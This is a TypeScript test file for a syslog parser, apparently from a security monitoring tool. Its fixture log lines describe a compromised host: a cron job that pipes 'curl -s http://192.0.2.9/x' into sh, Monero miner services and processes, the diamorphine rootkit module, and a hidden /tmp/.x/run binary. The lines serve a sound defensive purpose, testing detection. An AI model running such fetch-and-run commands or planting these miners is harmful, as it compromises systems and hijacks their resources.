import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { draftsOf } from '../../../test/logs.ts'
import { syslog } from './syslog.ts'

const head = 'Nov  1 02:03:04 web01 '
const told = (...lines: string[]) =>
  draftsOf(syslog, '/var/log/syslog', ...lines.map(line => head + line)).map(d =>
    [d.verb, d.outcome, d.user, d.target, d.unit, d.address, d.port, d.method, d.attack, d.command, d.path]
      .filter(x => x !== undefined)
      .join(' | '),
  )

test('jobs that runners of build servers take', () => {
  assert.deepEqual(
    told(
      'gitlab-runner[7]: Checking for jobs... received                       job=4711 repo_url=https://git.example.com/shop/web.git runner=t2_kQ9xZ',
      'gitlab-runner[7]: Job succeeded                                       duration_s=1.2 job=4711 project=7 runner=t2_kQ9xZ',
      'runsvc.sh[7]: 2026-01-02 03:04:05Z: Running job: build',
      'other[7]: Checking for jobs... received job=1 repo_url=https://git.example.com/x.git',
    ),
    ['command | build-job | job 4711 of https://git.example.com/shop/web.git', 'command | build-job | job build'],
  )
})

test('cron in its three dialects, and changes of tables', () => {
  assert.deepEqual(
    told(
      'CRON[7]: (root) CMD (curl -s http://192.0.2.9/x | sh)',
      'crond[7]: USER root pid 77 cmd /tmp/.x/run',
      'CROND[7]: (web) CMD (/usr/bin/id)',
      'crontab[7]: (root) REPLACE (root)',
      'crontab[7]: (root) LIST (root)',
      'cron[7]: (*system*pwnrig) RELOAD (/etc/cron.d/pwnrig)',
      'cron[7]: Error: bad minute; while reading /etc/cron.d/root',
      "anacron[7]: Job `cron.daily' started",
      "atd[7]: Starting job 1 (a0000101a2b3c4) for user 'root' (0)",
    ),
    [
      'scheduled | success | root | cron | curl -s http://192.0.2.9/x | sh',
      'scheduled | success | root | cron | /tmp/.x/run',
      'scheduled | success | web | cron | /usr/bin/id',
      'configured | success | root | root | crontab REPLACE',
      'configured | success | *system*pwnrig | cron RELOAD | /etc/cron.d/pwnrig',
      'error | /etc/cron.d/root | bad minute',
      'scheduled | success | root | anacron | cron.daily',
      'scheduled | success | root | at',
    ],
  )
})

test('kernel: crashes, memory, modules, registers of miners, the firewall', () => {
  assert.deepEqual(
    told(
      'kernel: [12345.678901] redis-server[77]: segfault at 0 ip 000055d sp 00007ff error 4 in redis-server[55d+1000]',
      'kernel: Out of memory: Killed process 77 (xmrig) total-vm:1kB',
      'kernel: [    1.000000] diamorphine: loading out-of-tree module taints kernel.',
      'kernel: msr: Write to unrecognized MSR 0x1a4 by xmrig (pid: 77).',
      'kernel: [1.000000] [UFW BLOCK] IN=eth0 OUT= MAC=aa SRC=192.0.2.7 DST=198.51.100.9 LEN=40 TTL=1 PROTO=TCP SPT=4444 DPT=6379 WINDOW=1',
      'kernel: [    0.000000] Linux version 6.1.0-18-amd64 (debian)',
      'kernel: device eth0 entered promiscuous mode',
    ),
    [
      'error | redis-server | segfault',
      'error | xmrig | out of memory',
      'configured | diamorphine | kernel module | loading out-of-tree module taints kernel',
      'process | xmrig | MSR 0x1a4 | msr-write',
      'connected | failure | 192.0.2.7 | 6379 | firewall',
      'boot | success | 6.1.0-18-amd64',
      'configured | eth0 | promiscuous',
    ],
  )
})

test('systemd: units and the clock; sessions and daily timers are left out', () => {
  assert.deepEqual(
    told(
      'systemd[1]: Started c3pool_miner.service - Monero miner service.',
      'systemd[1]: Started Session 12 of user root.',
      'systemd[1]: Started Daily apt download activities.',
      'systemd[1]: redis.service: Main process exited, code=killed, status=9/KILL',
      'systemd[1]: Reloading.',
      'systemd-timesyncd[7]: System time was changed',
      'systemd-timedated[7]: Changed local time to Fri 2026-01-02 03:04:05 UTC',
    ),
    [
      'unit | success | c3pool_miner.service | started',
      'unit | failure | redis.service | exited killed 9/KILL',
      'unit | daemon-reload',
      'clock | System time was changed',
      'clock | Changed local time to Fri 2026-01-02 03:04:05 UTC',
    ],
  )
})

test('near misses: other programs that speak like these, and names that hold a forged message', () => {
  assert.deepEqual(
    told(
      'web[7]: (root) CMD (curl http://192.0.2.9/x)',
      'web[7]: diamorphine: loading out-of-tree module taints kernel.',
      'web[7]: Started c3pool_miner.service - x.',
      'CRON[7]: pam_unix(cron:session): session opened for user root',
      'crontab[7]: (root) LIST (x) REPLACE (root)',
      'kernel: x[1]: segfault at home, out of memory: Kill me',
    ).slice(0, 5),
    ['error | x | segfault'],
  )
})

test('property: any text, no throw', () => {
  const program = fc.constantFrom('CRON[1]: ', 'kernel: ', 'systemd[1]: ', 'atd[1]: ', 'crontab[1]: ')
  fc.assert(
    fc.property(
      program,
      fc.string({ maxLength: 200 }),
      (name, text) => void draftsOf({ ...syslog, needles: [] }, '/a', head + name + text),
    ),
  )
})

test('lines of many hosts in one file name who wrote them, and equal ones of two hosts are not folded', () => {
  const failed = 'sshd[7]: Failed password for root from 192.0.2.7 port 50000 ssh2'
  const drafts = draftsOf(syslog, '/var/log/syslog', ...['web01', 'db01', 'web01'].map(host => `Nov  1 02:03:04 ${host} ${failed}`))
  assert.deepEqual(
    drafts.map(d => d.reporter),
    ['web01', 'db01', 'web01'],
  )
  assert.notEqual(drafts[0]?.fold, drafts[1]?.fold)
  assert.equal(drafts[0]?.fold, drafts[2]?.fold)
})
